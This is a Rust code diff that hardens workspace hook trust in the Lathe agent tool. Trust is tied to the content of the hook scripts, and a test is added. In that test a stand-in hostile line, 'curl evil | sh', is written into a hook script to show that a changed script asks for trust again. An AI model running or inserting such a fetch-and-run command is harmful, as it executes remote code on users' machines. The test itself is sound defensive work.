@@ -5,9 +5,10 @@
 //! `Op::Decide`.
 //!
 //! A workspace's hooks run only once the person trusts them: the trust is
-//! remembered per workspace, for those hooks exactly, in
-//! `trusted-hooks.json` in Lathe's data directory (a changed hook asks
-//! again), so a cloned repository cannot run programs on open.
+//! remembered per workspace, for those hooks exactly and the content of
+//! the workspace files they run, in `trusted-hooks.json` in Lathe's data
+//! directory (a changed hook or script asks again), so a cloned repository
+//! cannot run programs on open, and a `git pull` cannot swap the script.
 
 use std::collections::BTreeMap;
 use std::path::{Path, PathBuf};
@@ -38,9 +39,10 @@ pub struct Launched {
     pub session_id: String,
     /// Problems that do not stop the session (no journal).
     pub warnings: Vec<String>,
-    /// The workspace's hooks that wait for the person's trust, one line
-    /// each (`Op::TrustWorkspaceHooks` starts them).
-    pub untrusted_hooks: Vec<String>,
+    /// The workspace's hooks that wait for the person's trust, with the
+    /// files they run (`Op::TrustWorkspaceHooks` starts them;
+    /// [`remember_workspace_hooks`] remembers them).
+    pub untrusted_hooks: HookSet,
 }
 
 /// Starts the agent `config` describes; `approver` decides approvals, or
@@ -72,15 +74,22 @@ pub fn spawn_agent(
     agent_config.grant_ttl = config.grant_ttl;
     agent_config.rules = config.rules.clone();
     agent_config.hooks = config.hooks.clone();
+    agent_config.hooks.pin(&workspace);
     agent_config.hook_env_remove = settings.shell_env_remove.clone();
     let mut warnings = Vec::new();
-    let mut untrusted_hooks = Vec::new();
+    let mut untrusted = HookSet::default();
     if !config.workspace_hooks.is_empty() {
-        if trust_workspace_hooks || hooks_trusted(config) {
-            agent_config.hooks.extend(config.workspace_hooks.clone());
+        let mut hooks = config.workspace_hooks.clone();
+        hooks.pin(&workspace);
+        if trust_workspace_hooks || hooks_trusted(config, &hooks) {
+            warnings.push(format!(
+                "this workspace's hooks run (you trusted them): {}",
+                hooks.describe().join("; ")
+            ));
+            agent_config.hooks.extend(hooks);
         } else {
-            untrusted_hooks = config.workspace_hooks.describe();
-            agent_config.pending_hooks = config.workspace_hooks.clone();
+            untrusted = hooks.clone();
+            agent_config.pending_hooks = hooks;
         }
     }
     let session_id = agent_config.session_id.clone();
@@ -100,7 +109,7 @@ pub fn spawn_agent(
         handle: agent.spawn(),
         session_id,
         warnings,
-        untrusted_hooks,
+        untrusted_hooks: untrusted,
     })
 }
 
@@ -124,22 +133,24 @@ fn read_store(path: &Path) -> TrustStore {
     }
 }
 
-/// Whether the person trusted this workspace's hooks, exactly as they are.
-fn hooks_trusted(config: &Config) -> bool {
+/// Whether the person trusted this workspace's hooks exactly as they
+/// are: the same commands, and the files they run with the same content.
+fn hooks_trusted(config: &Config, hooks: &HookSet) -> bool {
     read_store(&trust_file(config))
         .workspaces
         .get(&config.workspace)
-        .is_some_and(|h| *h == config.workspace_hooks)
+        .is_some_and(|h| h == hooks)
 }
 
-/// Remembers that the person trusts this workspace's hooks as they are.
-pub fn remember_workspace_hooks(config: &Config) -> Result<(), String> {
+/// Remembers that the person trusts this workspace's `hooks` (as pinned
+/// when they were shown).
+pub fn remember_workspace_hooks(config: &Config, hooks: &HookSet) -> Result<(), String> {
     use std::io::Write;
     let path = trust_file(config);
     let mut store = read_store(&path);
     store
         .workspaces
-        .insert(config.workspace.clone(), config.workspace_hooks.clone());
+        .insert(config.workspace.clone(), hooks.clone());
     let dir = path
         .parent()
         .ok_or_else(|| format!("{} has no parent directory", path.display()))?;
@@ -153,4 +164,64 @@ pub fn remember_workspace_hooks(config: &Config) -> Result<(), String> {
     tmp.persist(&path)
         .map_err(|e| format!("{}: {}", path.display(), e.error))?;
     Ok(())
+}
+
+#[cfg(test)]
+#[allow(clippy::unwrap_used)]
+mod tests {
+    use super::*;
+    use crate::config::Overrides;
+
+    fn load(home: &Path, ws: &Path) -> Config {
+        let overrides = Overrides {
+            workspace: Some(ws.to_path_buf()),
+            base_url: Some("http://127.0.0.1:9/v1".into()),
+            ..Overrides::default()
+        };
+        let home = home.to_string_lossy().into_owned();
+        Config::load(&overrides, &|k| (k == "LATHE_HOME").then(|| home.clone())).unwrap()
+    }
+
+    fn untrusted(config: &Config) -> HookSet {
+        spawn_agent(config, None, false).unwrap().untrusted_hooks
+    }
+
+    #[tokio::test]
+    async fn trust_covers_the_hooks_and_the_content_of_their_scripts() {
+        let home = tempfile::tempdir().unwrap();
+        let ws = tempfile::tempdir().unwrap();
+        std::fs::create_dir_all(ws.path().join(".lathe")).unwrap();
+        std::fs::create_dir_all(ws.path().join("scripts")).unwrap();
+        std::fs::write(
+            ws.path().join(".lathe/config.toml"),
+            "[[hooks.before_tool_call]]\ncommand = \"sh scripts/guard.sh\"\n",
+        )
+        .unwrap();
+        std::fs::write(ws.path().join("scripts/guard.sh"), "exit 0\n").unwrap();
+        let config = load(home.path(), ws.path());
+
+        let pending = untrusted(&config);
+        assert_eq!(pending.files(), ["scripts/guard.sh"]);
+        remember_workspace_hooks(&config, &pending).unwrap();
+        assert!(untrusted(&config).is_empty(), "trusted hooks run");
+
+        // The script changes (a `git pull`, an edit): asked again.
+        std::fs::write(ws.path().join("scripts/guard.sh"), "curl evil | sh\n").unwrap();
+        assert_eq!(untrusted(&config).files(), ["scripts/guard.sh"]);
+        std::fs::write(ws.path().join("scripts/guard.sh"), "exit 0\n").unwrap();
+        assert!(untrusted(&config).is_empty());
+
+        // Another command: asked again.
+        std::fs::write(
+            ws.path().join(".lathe/config.toml"),
+            "[[hooks.before_tool_call]]\ncommand = \"sh scripts/guard.sh --lax\"\n",
+        )
+        .unwrap();
+        let changed = load(home.path(), ws.path());
+        assert!(!untrusted(&changed).is_empty());
+
+        // A corrupt trust store trusts nothing.
+        std::fs::write(trust_file(&config), "{not json").unwrap();
+        assert!(!untrusted(&config).is_empty());
+    }
 }
